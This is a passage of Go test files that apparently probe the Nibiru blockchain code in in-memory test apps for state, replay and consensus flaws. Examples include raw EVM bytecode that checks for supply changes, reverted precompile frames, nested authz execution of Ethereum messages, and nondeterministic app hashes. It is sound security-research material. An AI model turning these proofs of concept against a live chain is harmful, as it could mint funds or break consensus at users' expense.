	fmt.Println("exec 0.90: code", r.Code, r.Log[:min(len(r.Log), 200)])
	v, found := napp.StakingKeeper.GetValidator(ctx, sdk.ValAddress(addr))
	if found {
		fmt.Println("validator commission:", v.Commission.Rate)
	} else {
		fmt.Println("validator not found")
	}
	// 3. doubly nested
	_ = codectypes.Any{}
}
