package probe

import (
	"encoding/json"
	"fmt"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/precompile"
)

type yieldPC struct{ hook func() }

func (p *yieldPC) Address() gethcommon.Address        { return gethcommon.HexToAddress("0x0999") }
func (p *yieldPC) RequiredGas(input []byte) uint64    { return 1 }
func (p *yieldPC) Run(e *vm.EVM, c *vm.Contract, ro bool) ([]byte, error) {
	if p.hook != nil {
		p.hook()
	}
	return nil, nil
}

func runScenario(t *testing.T, withQuery bool) (string, string) {
	deps := evmtest.NewTestDeps()
	X := evmtest.NewEthPrivAcc()
	Y := evmtest.NewEthPrivAcc()
	for _, a := range []sdk.AccAddress{deps.Sender.NibiruAddr, X.NibiruAddr} {
		if err := testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, a, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15)))); err != nil {
			t.Fatal(err)
		}
	}
	_ = testapp.FundModuleAccount(deps.App.BankKeeper, deps.Ctx, "fee_collector", sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15))))
	pc := &yieldPC{}
	deps.EvmKeeper.AddPrecompiles(map[gethcommon.Address]vm.PrecompiledContract{pc.Address(): pc})
	if withQuery {
		pc.hook = func() {
			in, _ := embeds.SmartContract_FunToken.ABI.Pack("bankMsgSend", Y.EthAddr.Hex(), "unibi", big.NewInt(5_000_000))
			data := hexutil.Bytes(in)
			to := precompile.PrecompileAddr_FunToken
			args, _ := json.Marshal(evm.JsonTxArgs{From: &X.EthAddr, To: &to, Input: &data})
			qctx, _ := deps.Ctx.CacheContext() // a query runs on its own branch of state
			res, err := deps.EvmKeeper.EthCall(sdk.WrapSDKContext(qctx), &evm.EthCallRequest{Args: args, GasCap: 10_000_000})
			fmt.Println("   query eth_call err:", err, "vmerr:", func() string { if res != nil { return res.VmError }; return "" }())
		}
	}
	// the in-flight EVM tx: sender calls the yield precompile
	nonce := deps.EvmKeeper.GetAccNonce(deps.Ctx, deps.Sender.EthAddr)
	gas := hexutil.Uint64(500_000)
	to := pc.Address()
	a := evm.JsonTxArgs{Nonce: (*hexutil.Uint64)(&nonce), From: &deps.Sender.EthAddr, To: &to, Gas: &gas}
	msg := a.ToMsgEthTx()
	if err := msg.Sign(deps.GethSigner(), deps.Sender.KeyringSigner); err != nil {
		t.Fatal(err)
	}
	resp, err := deps.EvmKeeper.EthereumTx(sdk.WrapSDKContext(deps.Ctx), msg)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp
	bx := deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(X.EthAddr), "unibi").Amount.String()
	by := deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(Y.EthAddr), "unibi").Amount.String()
	return bx, by
}

func TestQueryInterference(t *testing.T) {
	bx, by := runScenario(t, false)
	fmt.Println("without query: X =", bx, " Y =", by)
	bx, by = runScenario(t, true)
	fmt.Println("with query   : X =", bx, " Y =", by)
}
