package probe

import (
	"fmt"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestMintTxLevel(t *testing.T) {
	deps := evmtest.NewTestDeps()
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, deps.Sender.NibiruAddr, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15))))
	_ = testapp.FundModuleAccount(deps.App.BankKeeper, deps.Ctx, "fee_collector", sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15))))
	runtime := gethcommon.FromHex("33301461004257600060006000600065048c273950007300000000000000000000000000000000000000b25af150366000600037600060003660006000305af150005b3660006000376000600036600060006108005af150600060006000600064e8d4a510007300000000000000000000000000000000000000c35af15060006000fd")
	init := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0B, 0x60, 0x00, 0x39, 0x60, 0x00, 0xF3}, runtime...)
	nonce := deps.EvmKeeper.GetAccNonce(deps.Ctx, deps.Sender.EthAddr)
	r := sendTx(t, &deps, nil, init)
	X := crypto.CreateAddress(deps.Sender.EthAddr, nonce)
	fmt.Println("deploy vmerr:", r.VmError, "X =", X.Hex())
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, eth.EthAddrToNibiruAddr(X), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(100))))
	B, C := gethcommon.HexToAddress("0xB2"), gethcommon.HexToAddress("0xC3")
	bal := func(a gethcommon.Address) string {
		return deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(a), "unibi").Amount.String()
	}
	// supply excluding the gas flows: X + B + C
	in, _ := embeds.SmartContract_FunToken.ABI.Pack("whoAmI", deps.Sender.NibiruAddr.String())
	for i := 0; i < 3; i++ {
		s0 := deps.App.BankKeeper.GetSupply(deps.Ctx, "unibi").Amount
		r = sendTx(t, &deps, &X, in)
		s1 := deps.App.BankKeeper.GetSupply(deps.Ctx, "unibi").Amount
		fmt.Printf("tx %d vmerr=%q  X=%s B=%s C=%s  supply delta=%s\n", i, r.VmError, bal(X), bal(B), bal(C), s1.Sub(s0))
	}
}
