package probe

import (
	"fmt"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	bank "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestLogIndex(t *testing.T) {
	deps := evmtest.NewTestDeps()
	// fund sender
	err := testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, deps.Sender.NibiruAddr, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15)), sdk.NewCoin("ucoin", sdkmath.NewInt(1000))))
	if err != nil {
		t.Fatal(err)
	}
	deps.App.BankKeeper.SetDenomMetaData(deps.Ctx, bank.Metadata{
		DenomUnits: []*bank.DenomUnit{{Denom: "ucoin", Exponent: 0}}, Base: "ucoin", Display: "ucoin", Name: "ucoin", Symbol: "UC",
	})
	show := func(tag string) {
		fmt.Printf("%s: BlockLogSize=%d BlockTxIndex=%d\n", tag,
			deps.EvmKeeper.EvmState.BlockLogSize.GetOr(deps.Ctx, 0), deps.EvmKeeper.EvmState.BlockTxIndex.GetOr(deps.Ctx, 0))
	}
	show("start")
	// 1. eth tx: deploy TestERC20 (emits Transfer on mint in constructor)
	res, err := evmtest.DeployContract(&deps, embeds.SmartContract_TestERC20)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range res.TxResp.Logs {
		fmt.Printf("  deploy log idx=%d txidx=%d\n", l.Index, l.TxIndex)
	}
	show("after eth tx 1")
	// 2. cosmos tx: create funtoken from coin
	r, err := deps.EvmKeeper.CreateFunToken(sdk.WrapSDKContext(deps.Ctx), &evm.MsgCreateFunToken{FromBankDenom: "ucoin", Sender: deps.Sender.NibiruAddr.String()})
	if err != nil {
		t.Fatal(err)
	}
	show("after CreateFunToken")
	// 3. cosmos tx: convert coin to evm
	_, err = deps.EvmKeeper.ConvertCoinToEvm(sdk.WrapSDKContext(deps.Ctx), &evm.MsgConvertCoinToEvm{
		Sender: deps.Sender.NibiruAddr.String(), BankCoin: sdk.NewCoin("ucoin", sdkmath.NewInt(10)),
		ToEthAddr: eth.EIP55Addr{Address: deps.Sender.EthAddr},
	})
	if err != nil {
		t.Fatal(err)
	}
	show("after ConvertCoinToEvm")
	// 4. eth tx 2: another deploy
	res2, err := evmtest.DeployContract(&deps, embeds.SmartContract_TestERC20)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range res2.TxResp.Logs {
		fmt.Printf("  deploy2 log idx=%d txidx=%d\n", l.Index, l.TxIndex)
	}
	show("after eth tx 2")
	for _, ev := range deps.Ctx.EventManager().Events() {
		if ev.Type == "eth.evm.v1.EventTxLog" {
			fmt.Printf("EventTxLog %s\n", ev.Attributes[0].Value[:min(300, len(ev.Attributes[0].Value))])
		}
	}
	_ = r
	_ = big.NewInt
}
