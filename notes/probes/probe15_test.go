package probe

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	tmdb "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	"github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/NibiruChain/nibiru/v2/app"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	sudotypes "github.com/NibiruChain/nibiru/v2/x/sudo/types"
)

func newReplica(genBytes []byte, vals []abci.ValidatorUpdate, t0 time.Time) *app.NibiruApp {
	a := app.NewNibiruApp(log.NewNopLogger(), tmdb.NewMemDB(), nil, true, sims.EmptyAppOptions{})
	a.InitChain(abci.RequestInitChain{ConsensusParams: sims.DefaultConsensusParams, AppStateBytes: genBytes, Time: t0, ChainId: ""})
	a.Commit()
	return a
}

func TestReplicaDeterminism(t *testing.T) {
	t0 := time.Unix(1_700_000_000, 0).UTC()
	// build ONE genesis (with a known funded key) and reuse its bytes for all replicas
	_, gen := testapp.NewNibiruTestApp(app.GenesisState{})
	enc := app.MakeEncodingConfig()
	priv := secp256k1.GenPrivKeyFromSecret([]byte("verif-root"))
	root := sdk.AccAddress(priv.PubKey().Address())
	var bankGen banktypes.GenesisState
	enc.Codec.MustUnmarshalJSON(gen[banktypes.ModuleName], &bankGen)
	coins := sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e15)))
	bankGen.Balances = append(bankGen.Balances, banktypes.Balance{Address: root.String(), Coins: coins})
	bankGen.Supply = bankGen.Supply.Add(coins...)
	gen[banktypes.ModuleName] = enc.Codec.MustMarshalJSON(&bankGen)
	var authGen authtypes.GenesisState
	enc.Codec.MustUnmarshalJSON(gen[authtypes.ModuleName], &authGen)
	accs, err := authtypes.UnpackAccounts(authGen.Accounts)
	if err != nil {
		t.Fatal(err)
	}
	accs = append(accs, authtypes.NewBaseAccount(root, priv.PubKey(), 0, 0))
	packed, err := authtypes.PackAccounts(accs)
	if err != nil {
		t.Fatal(err)
	}
	authGen.Accounts = packed
	gen[authtypes.ModuleName] = enc.Codec.MustMarshalJSON(&authGen)
	sg := sudotypes.GenesisState{Sudoers: sudotypes.Sudoers{Root: root.String(), Contracts: []string{}}}
	gen[sudotypes.ModuleName] = enc.Codec.MustMarshalJSON(&sg)
	genBytes, _ := json.Marshal(gen)

	run := func(withSudo bool) []string {
		a := newReplica(genBytes, nil, t0)
		var hashes []string
		seq := uint64(0)
		for b := 0; b < 3; b++ {
			h := a.LastBlockHeight() + 1
			header := tmproto.Header{Height: h, Time: t0.Add(time.Duration(h) * 5 * time.Second), ChainID: ""}
			a.BeginBlock(abci.RequestBeginBlock{Header: header})
			ctx := a.NewContext(false, header)
			acc := a.AccountKeeper.GetAccount(ctx, root)
			var msgs []sdk.Msg
			msgs = append(msgs, banktypes.NewMsgSend(root, sdk.AccAddress([]byte("recipient__________1")), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(5)))))
			if withSudo {
				var cs []string
				for j := 0; j < 4; j++ {
					cs = append(cs, sdk.AccAddress([]byte{byte(10*b + j + 1), 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20}).String())
				}
				msgs = append(msgs, &sudotypes.MsgEditSudoers{Action: "add_contracts", Contracts: cs, Sender: root.String()})
			}
			tx, err := sims.GenSignedMockTx(rand.New(rand.NewSource(1)), enc.TxConfig, msgs,
				sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e6))), 2_000_000, "",
				[]uint64{acc.GetAccountNumber()}, []uint64{seq}, priv)
			if err != nil {
				t.Fatal(err)
			}
			bz, _ := enc.TxConfig.TxEncoder()(tx)
			r := a.DeliverTx(abci.RequestDeliverTx{Tx: bz})
			if r.Code != 0 {
				t.Fatalf("tx failed: %s", r.Log)
			}
			seq++
			a.EndBlock(abci.RequestEndBlock{Height: h})
			c := a.Commit()
			hashes = append(hashes, hex.EncodeToString(c.Data)[:16])
		}
		return hashes
	}
	fmt.Println("no sudo  A:", run(false))
	fmt.Println("no sudo  B:", run(false))
	seen := map[string]int{}
	for i := 0; i < 8; i++ {
		seen[fmt.Sprint(run(true))]++
	}
	fmt.Println("with sudo edits, distinct app-hash sequences over 8 replicas:", len(seen))
}
