package probe

import (
	"fmt"
	"testing"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/NibiruChain/nibiru/v2/x/oracle/types"
)

func TestMedianAbstain(t *testing.T) {
	v1 := sdk.ValAddress([]byte{1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1})
	v2 := sdk.ValAddress([]byte{2, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1})
	votes := types.ExchangeRateVotes{
		types.NewExchangeRateVote(math.LegacyNewDec(5), "a:b", v1, 1),
		types.NewExchangeRateVote(math.LegacyNewDec(-1), "a:b", v2, 0),
	}
	fmt.Println("with abstain:", votes.WeightedMedianWithAssertion())
	votes2 := types.ExchangeRateVotes{types.NewExchangeRateVote(math.LegacyNewDec(5), "a:b", v1, 1)}
	fmt.Println("without abstain:", votes2.WeightedMedianWithAssertion())
}
