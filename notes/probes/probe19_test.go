package probe

import (
	"fmt"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestStaleObjectAfterRevert(t *testing.T) {
	deps := evmtest.NewTestDeps()
	X, Y := gethcommon.HexToAddress("0xA1"), gethcommon.HexToAddress("0xB2")
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, eth.EthAddrToNibiruAddr(X), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(100))))
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, eth.EthAddrToNibiruAddr(Y), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(50))))
	supply := func() string { return deps.App.BankKeeper.GetSupply(deps.Ctx, "unibi").Amount.String() }
	bal := func(a gethcommon.Address) string {
		return deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(a), "unibi").Amount.String()
	}
	s0 := supply()
	db := deps.NewStateDB()
	_ = db.GetBalance(X) // the calling contract is always loaded
	snap := db.Snapshot()
	precompileCall(t, &deps, db, X, Y, 3) // bank send X -> Y 3 unibi inside the frame
	db.RevertToSnapshot(snap)             // frame reverts
	fmt.Println("after revert: statedb view X =", db.GetBalance(X), " Y =", db.GetBalance(Y))
	db.SubBalance(X, wei(1))
	db.AddBalance(Y, wei(1)) // X sends 1 unibi to Y
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	fmt.Println("X", bal(X), "Y", bal(Y), "| supply", s0, "->", supply())
}
