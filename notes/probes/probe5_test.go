package probe

import (
	"fmt"
	"math/big"
	"testing"

	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"
	gethparams "github.com/ethereum/go-ethereum/params"

	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestLostWriteEvm(t *testing.T) {
	deps := evmtest.NewTestDeps()
	evmObj, db := deps.NewEVM()
	A := gethcommon.HexToAddress("0xA1")
	runtime := gethcommon.FromHex("6007600155" + "366000600037" + "6000600036600060006108005AF1" + "5000")
	db.SetNonce(A, 1)
	db.SetCode(A, runtime)
	k1 := gethcommon.BigToHash(big.NewInt(1))
	in, _ := embeds.SmartContract_FunToken.ABI.Pack("sendToBank", gethcommon.HexToAddress("0x1234"), big.NewInt(1), deps.Sender.NibiruAddr.String())
	db.PrepareAccessList(deps.Sender.EthAddr, &A, evmObj.ActivePrecompiles(gethparams.Rules{}), nil)
	ret, left, err := evmObj.Call(vm.AccountRef(deps.Sender.EthAddr), A, in, 2_000_000, big.NewInt(0))
	fmt.Printf("ret=%x left=%d err=%v\n", ret, left, err)
	fmt.Println("dirties:", db.DebugDirties())
	fmt.Println("cache ctx nil?", db.GetCacheContext() == nil)
	if db.GetCacheContext() != nil {
		fmt.Println("cacheCtx slot:", deps.EvmKeeper.GetState(*db.GetCacheContext(), A, k1).Big())
	}
	fmt.Println("statedb view:", db.GetState(A, k1).Big())
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	fmt.Println("final committed slot:", deps.EvmKeeper.GetState(deps.Ctx, A, k1).Big())
}
