package probe

import (
	"fmt"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	gethcommon "github.com/ethereum/go-ethereum/common"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/statedb"
)

// A contract self-destructs (outside); later a frame with a precompile call reverts.
func TestSuicideLostAcrossRevertedPrecompileFrame(t *testing.T) {
	deps := evmtest.NewTestDeps()
	K, B, X := gethcommon.HexToAddress("0xC0DE"), gethcommon.HexToAddress("0xB2"), gethcommon.HexToAddress("0xA1")
	_ = testapp.FundAccount(deps.App.BankKeeper, deps.Ctx, eth.EthAddrToNibiruAddr(X), sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(100))))
	// set up contract K with code, storage and 50 unibi in committed state
	db := deps.NewStateDB()
	db.SetNonce(K, 1)
	db.SetCode(K, []byte{0x60, 0x00})
	db.SetState(K, gethcommon.BigToHash(big.NewInt(1)), gethcommon.BigToHash(big.NewInt(9)))
	db.AddBalance(K, wei(50))
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	deps.EvmKeeper.Bank.StateDB = nil

	db = deps.EvmKeeper.NewStateDB(deps.Ctx, statedb.NewEmptyTxConfig(gethcommon.Hash{}))
	// opSelfdestruct of K with beneficiary B (outside any reverted frame)
	db.AddBalance(B, db.GetBalance(K))
	db.Suicide(K)
	// later: a frame with a precompile call, reverted
	snap := db.Snapshot()
	db.AddBalance(X, wei(0))
	precompileCall(t, &deps, db, X, X, 0)
	db.RevertToSnapshot(snap)
	fmt.Println("before commit: HasSuicided(K) =", db.HasSuicided(K), " Exist(K) =", db.Exist(K))
	if err := db.Commit(); err != nil {
		t.Fatal(err)
	}
	acc := deps.EvmKeeper.GetAccount(deps.Ctx, K)
	fmt.Println("after commit: K account exists:", acc != nil, "| slot1 =", deps.EvmKeeper.GetState(deps.Ctx, K, gethcommon.BigToHash(big.NewInt(1))).Big(),
		"| B =", deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(B), "unibi").Amount,
		"| K =", deps.App.BankKeeper.GetBalance(deps.Ctx, eth.EthAddrToNibiruAddr(K), "unibi").Amount)
	if acc != nil {
		fmt.Printf("   K is contract: %v\n", acc.IsContract())
	}
}
