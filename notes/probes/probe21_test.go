package probe

import (
	"fmt"
	"math/big"
	"math/rand"
	"os"
	"testing"

	sdkmath "cosmossdk.io/math"

	"github.com/NibiruChain/nibiru/v2/x/common"
)

func randRaw(r *rand.Rand) *big.Int {
	var x *big.Int
	switch r.Intn(6) {
	case 0:
		x = big.NewInt(int64(r.Intn(1000)))
	case 1:
		x = new(big.Int).Mul(big.NewInt(int64(r.Intn(2000))), big.NewInt(500000000000000000)) // multiples of 0.5
	case 2:
		x = new(big.Int).Rand(r, new(big.Int).Lsh(big.NewInt(1), 70))
	case 3:
		x = new(big.Int).Rand(r, new(big.Int).Lsh(big.NewInt(1), 130))
	case 4:
		x = new(big.Int).Add(new(big.Int).Mul(big.NewInt(int64(r.Intn(100))), big.NewInt(1000000000000000000)), big.NewInt(int64(r.Intn(3))-1))
	default:
		x = new(big.Int).Rand(r, new(big.Int).Lsh(big.NewInt(1), 200))
	}
	if r.Intn(4) == 0 {
		x.Neg(x)
	}
	return x
}

func TestGenDecCases(t *testing.T) {
	r := rand.New(rand.NewSource(42))
	f, _ := os.Create("/root/scratch/coqspike/dec/Cases.v")
	defer f.Close()
	fmt.Fprintln(f, "Require Import Dec.\nFrom Coq Require Import ZArith List.\nImport ListNotations.\nOpen Scope Z_scope.\nDefinition cases : list (opk * Z * Z * Z) := [")
	n := 0
	emit := func(op string, a, b, want *big.Int) {
		if n > 0 {
			fmt.Fprintln(f, ";")
		}
		fmt.Fprintf(f, "(%s, (%s), (%s), (%s))", op, a, b, want)
		n++
	}
	safe := func(fn func() *big.Int) (res *big.Int) {
		defer func() {
			if recover() != nil {
				res = nil
			}
		}()
		return fn()
	}
	for i := 0; i < 3000; i++ {
		a, b := randRaw(r), randRaw(r)
		da, db := sdkmath.LegacyNewDecFromBigIntWithPrec(a, 18), sdkmath.LegacyNewDecFromBigIntWithPrec(b, 18)
		if w := safe(func() *big.Int { return da.Mul(db).BigInt() }); w != nil {
			emit("OMul", a, b, w)
		}
		if b.Sign() != 0 {
			if w := safe(func() *big.Int { return da.Quo(db).BigInt() }); w != nil {
				emit("OQuo", a, b, w)
			}
		}
		k := int64(r.Intn(1000) + 1)
		if r.Intn(3) == 0 {
			k = -k
		}
		emit("OQuoInt", a, big.NewInt(k), da.QuoInt64(k).BigInt())
		emit("ORound", a, big.NewInt(0), da.RoundInt().BigInt())
		emit("OTrunc", a, big.NewInt(0), da.TruncateInt().BigInt())
		if i%5 == 0 {
			small := sdkmath.LegacyNewDecFromBigIntWithPrec(new(big.Int).Rand(r, new(big.Int).Lsh(big.NewInt(1), 62)), 18)
			p := uint64(r.Intn(12))
			if w := safe(func() *big.Int { return small.Power(p).BigInt() }); w != nil {
				emit("OPow", small.BigInt(), new(big.Int).SetUint64(p), w)
			}
		}
		if a.Sign() >= 0 {
			if s, err := common.SqrtDec(da); err == nil {
				emit("OSqrt", a, big.NewInt(0), s.BigInt())
			}
		}
	}
	fmt.Fprintln(f, "].\nDefinition M := Eval vm_compute in mismatches cases.\nDefinition NM := Eval vm_compute in (length cases, length M).\nPrint NM.\nDefinition M5 := Eval vm_compute in firstn 5 M.\nPrint M5.")
	fmt.Println("cases:", n)
}
