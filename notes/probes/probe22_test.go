package probe

import (
	"fmt"
	"math/big"
	"math/rand"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	"github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	"github.com/cosmos/cosmos-sdk/x/authz"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	gethcore "github.com/ethereum/go-ethereum/core/types"

	"github.com/NibiruChain/nibiru/v2/app"
	"github.com/NibiruChain/nibiru/v2/app/appconst"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
)

func TestEthMsgRoutesAndReplay(t *testing.T) {
	napp, _ := testapp.NewNibiruTestApp(app.GenesisState{})
	napp.Commit()
	header := tmproto.Header{Height: napp.LastBlockHeight() + 1, Time: time.Unix(1_700_000_000, 0).UTC()}
	napp.BeginBlock(abci.RequestBeginBlock{Header: header})
	ctx := napp.NewContext(false, header)
	E := evmtest.NewEthPrivAcc()
	priv := secp256k1.GenPrivKey()
	A := sdk.AccAddress(priv.PubKey().Address())
	for _, a := range []sdk.AccAddress{E.NibiruAddr, A} {
		_ = testapp.FundAccount(napp.BankKeeper, ctx, a, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e12))))
	}
	chainID := appconst.GetEthChainID(ctx.ChainID())
	txCfg := app.MakeEncodingConfig().TxConfig
	mkEth := func(nonce uint64, cid *big.Int) *evm.MsgEthereumTx {
		to := gethcommon.HexToAddress("0xBEEF")
		tx := evm.NewTx(&evm.EvmTxArgs{ChainID: cid, Nonce: nonce, GasLimit: 21000, GasPrice: big.NewInt(1_000_000_000_000), To: &to, Amount: big.NewInt(1_000_000_000_000)})
		tx.From = E.EthAddr.Hex()
		if err := tx.Sign(gethcore.LatestSignerForChainID(cid), E.KeyringSigner); err != nil {
			t.Fatal(err)
		}
		return tx
	}
	seqE := func() uint64 { return napp.AccountKeeper.GetAccount(ctx, E.NibiruAddr).GetSequence() }
	deliverEth := func(tag string, msgs ...*evm.MsgEthereumTx) {
		b := txCfg.NewTxBuilder().(authtx.ExtensionOptionsTxBuilder)
		opt, _ := codectypes.NewAnyWithValue(&evm.ExtensionOptionsEthereumTx{})
		b.SetExtensionOptions(opt)
		var sm []sdk.Msg
		fee := sdkmath.ZeroInt()
		gas := uint64(0)
		for _, m := range msgs {
			m.From = ""
			sm = append(sm, m)
			fee = fee.Add(sdkmath.NewIntFromBigInt(evm.WeiToNative(m.GetFee())))
			gas += m.GetGas()
		}
		_ = b.SetMsgs(sm...)
		b.SetFeeAmount(sdk.NewCoins(sdk.NewCoin("unibi", fee)))
		b.SetGasLimit(gas)
		bz, err := txCfg.TxEncoder()(b.GetTx())
		if err != nil {
			t.Fatal(err)
		}
		r := napp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		fmt.Printf("%-28s code=%d seq(E)=%d log=%.90s\n", tag, r.Code, seqE(), r.Log)
	}
	tx0 := mkEth(0, chainID)
	deliverEth("eth nonce0", tx0)
	deliverEth("eth nonce0 replay", mkEth(0, chainID))
	deliverEth("eth nonce gap (5)", mkEth(5, chainID))
	deliverEth("eth wrong chain id", mkEth(1, big.NewInt(1)))
	deliverEth("eth two msgs n=1,2", mkEth(1, chainID), mkEth(2, chainID))
	deliverEth("eth two msgs n=3,3", mkEth(3, chainID), mkEth(3, chainID))

	// cosmos-path attempts
	acc := napp.AccountKeeper.GetAccount(ctx, A)
	deliverCosmos := func(tag string, seq uint64, msgs ...sdk.Msg) {
		tx, err := sims.GenSignedMockTx(rand.New(rand.NewSource(1)), txCfg, msgs, sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewInt(1e6))), 5_000_000, ctx.ChainID(),
			[]uint64{acc.GetAccountNumber()}, []uint64{seq}, priv)
		if err != nil {
			fmt.Printf("%-28s build error: %v\n", tag, err)
			return
		}
		bz, _ := txCfg.TxEncoder()(tx)
		r := napp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		fmt.Printf("%-28s code=%d seq(E)=%d log=%.110s\n", tag, r.Code, seqE(), r.Log)
	}
	inner := mkEth(3, chainID)
	e1 := authz.NewMsgExec(A, []sdk.Msg{inner})
	deliverCosmos("exec[eth]", 0, &e1)
	e2 := authz.NewMsgExec(A, []sdk.Msg{&e1})
	deliverCosmos("exec[exec[eth]]", 0, &e2)
}
