package probe

import (
	"fmt"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/staking"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	okeeper "github.com/NibiruChain/nibiru/v2/x/oracle/keeper"
)

func TestSlashNilValidator(t *testing.T) {
	f := okeeper.CreateTestFixture(t)
	sp := f.StakingKeeper.GetParams(f.Ctx)
	sp.UnbondingTime = time.Second
	_ = f.StakingKeeper.SetParams(f.Ctx, sp)
	sh := stakingkeeper.NewMsgServerImpl(&f.StakingKeeper)
	amt := sdk.TokensFromConsensusPower(10, sdk.DefaultPowerReduction)
